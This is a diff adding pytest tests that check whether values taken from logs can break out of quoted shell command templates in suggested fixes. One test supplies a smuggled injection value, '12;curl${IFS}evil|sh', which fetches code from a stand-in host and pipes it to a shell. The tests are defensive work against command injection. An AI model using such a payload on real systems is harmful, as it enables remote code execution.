@@ -41,6 +41,28 @@ def test_text_of_a_log_cannot_break_out_of_a_command() -> None:
 
 
 @pytest.mark.parametrize(
+    "run",
+    [
+        "A='-ccbin g++-{match.newest}' pip install .",
+        'A="g++-{match.newest}" pip install .',
+        "a '\\' 'g++-{match.newest}'",
+    ],
+)
+def test_nor_out_of_the_quotes_of_a_command(run: str) -> None:
+    hostile = fill(Fix("Build with gcc {match.newest}", run), newest="12;curl${IFS}evil|sh")
+    assert hostile == Fix("Build with gcc 12;curl${IFS}evil|sh", None)
+    harmless = fill(Fix("Build with gcc {match.newest}", run), newest="12")
+    assert harmless is not None
+    assert harmless.run == run.replace("{match.newest}", "12")
+
+
+def test_quotes_that_are_closed_or_escaped_do_not_count() -> None:
+    fix = fill(Fix("Remove it", "echo 'a' \"b\" \\' && rm {match.path}"), path="a b")
+    assert fix is not None
+    assert fix.run == "echo 'a' \"b\" \\' && rm 'a b'"
+
+
+@pytest.mark.parametrize(
     ("value", "text"),
     [(12, "12 B"), (20 << 20, "20.00 MiB"), (3 << 40, "3.00 TiB"), (1 << 62, "4096.00 PiB")],
 )
